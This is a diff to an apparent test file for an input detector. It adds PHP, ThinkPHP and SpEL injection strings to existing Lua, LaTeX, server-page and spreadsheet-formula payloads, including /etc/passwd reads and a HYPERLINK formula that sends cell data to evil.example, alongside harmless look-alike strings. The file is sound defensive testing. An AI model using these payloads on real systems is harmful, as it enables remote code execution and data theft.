@@ -52,6 +52,16 @@ const CODE: Readonly<Record<string, readonly string[]>> = {
   Lua: ['"..os.execute("id").."', 'os.getenv("PATH")', 'io.open("/etc/passwd"):read()'],
   formulas: ["\t=cmd|'/C calc'!A0", '=IFERROR(HYPERLINK("http://evil.example?x="&A1),"")'],
   LaTeX: ['\\input{/etc/passwd}', '\\immediate\\write18{id}', '\\input|id', '\\csname input\\endcsname{x}'],
+  'functions of PHP that a variable or brackets name': [
+    "$y='sys'.'tem';($y)('uname');",
+    '1;@$b374k("foo")',
+    '(system)(ls);',
+    '/index/\\think\\app/invokefunction',
+  ],
+  'objects of the JVM, loops': [
+    'new org.springframework.expression.spel.standard.SpelExpressionParser()',
+    'while(!false);',
+  ],
   'server pages': ['<%=CreateObject("Scripting.FileSystemObject").GetFolder(".")%>'],
 }
 
@@ -120,6 +130,10 @@ describe('a stream that makes objects is refused', () => {
 })
 
 const HARMLESS: readonly string[] = [
+  btoa('costs of the house in the city of Berlin'),
+  'at \\think\\App->run() in App.php',
+  '(system) (ls)',
+  '$("#a").on("click")',
   'We call open() and print("x") in chapter two',
   'const fs = require("fs")',
   'print("hello")',
